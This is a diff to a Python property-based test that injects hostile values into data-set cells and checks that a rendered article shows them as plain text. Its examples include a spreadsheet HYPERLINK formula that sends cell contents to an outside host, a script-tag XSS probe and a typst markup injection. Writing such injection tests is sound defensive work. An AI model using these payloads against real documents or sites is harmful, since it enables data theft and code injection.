@@ -5,8 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import re
-from collections.abc import Callable, Iterator
-from functools import cache
+from collections.abc import Callable, Iterator, Sequence
+from functools import cache, partial
 from typing import Any
 
 import pandas as pd
@@ -48,11 +48,31 @@ def pandoc() -> Iterator[Engine]:
     engine.close()
 
 
-class Shown:
-    """All that is made of the evidence with one cell changed: pages, and tables of charts."""
+Cell = tuple[str, str, int, str]
+"""Data set, column, row and text."""
 
-    def __init__(self, pandoc: Engine, data_set: str, edit: Callable[[pd.DataFrame], pd.DataFrame]) -> None:
-        vintage = edited(NEWEST, everywhere(data_set, edit))
+
+def put(cells: Sequence[Cell], table: pd.DataFrame) -> pd.DataFrame:
+    for _, column, row, text in cells:
+        table.iloc[row % len(table), table.columns.get_loc(column)] = text
+    return table
+
+
+class Shown:
+    """All that is made of the evidence with some cells changed: pages, and tables of charts."""
+
+    def __init__(self, pandoc: Engine, cells: Sequence[Cell]) -> None:
+        by_set: dict[str, list[Cell]] = {}
+        for cell in cells:
+            by_set.setdefault(cell[0], []).append(cell)
+        vintage = edited(
+            NEWEST,
+            {
+                path: table
+                for data_set, edits in by_set.items()
+                for path, table in everywhere(data_set, partial(put, edits)).items()
+            },
+        )
         ledger = build_ledger(vintage)
         values = dict(variables(ledger, vintage, len(ARTICLE.charts)))
         blocks = generated(ARTICLE, ledger, vintage)
@@ -76,27 +96,32 @@ class Shown:
 
 @pytest.fixture(scope="module")
 def template(pandoc: Engine) -> Shown:
-    return Shown(pandoc, "prices", lambda table: table)
+    return Shown(pandoc, ())
+
+
+@st.composite
+def cells(draw: st.DrawFn) -> Cell:
+    """A cell with a text that its contract takes."""
+    name, column = draw(st.sampled_from(TEXTS))
+    spec = DATA_SETS[name].columns[column]
+    text = draw(TAKEN.filter(lambda text: not contracts.expected(spec, text)))
+    return name, column, draw(st.integers(0, 10_000)), text
 
 
 @settings(max_examples=1, suppress_health_check=list(HealthCheck))
-@given(column=st.sampled_from(TEXTS), row=st.integers(0, 10_000), text=TAKEN)
-@example(("statements", "company"), 3, '=HYPERLINK("https://e.x?"&A1,"open")')
-@example(("evidence", "publisher"), 5, "<script>alert(1)</script>")
-def test_a_cell_is_refused_or_is_text_wherever_it_is_shown(
-    pandoc: Engine, template: Shown, column: tuple[str, str], row: int, text: str
-) -> None:
+@given(changed=st.lists(cells(), min_size=1, max_size=12))
+@example(
+    [
+        ("statements", "company", 3, '=HYPERLINK("https://e.x?"&A1,"open")'),
+        ("pool_points", "entity", 0, "=1+1"),
+        ("evidence", "publisher", 5, "<script>alert(1)</script>"),
+        ("evidence", "note", 0, "`#panic()`{=typst}"),
+    ]
+)
+def test_cells_are_text_wherever_they_are_shown(pandoc: Engine, template: Shown, changed: list[Cell]) -> None:
     """What the article's code says of a changed name may be another thing; it is never another element."""
-    name, place = column
-    if contracts.expected(DATA_SETS[name].columns[place], text):
-        return
-
-    def put(table: pd.DataFrame) -> pd.DataFrame:
-        table.iloc[row % len(table), table.columns.get_loc(place)] = text
-        return table
-
     try:
-        shown = Shown(pandoc, name, put)
+        shown = Shown(pandoc, changed)
     except ReportError as error:  # a claim asks for what is not there now
         assert error.where  # noqa: PT017
         return
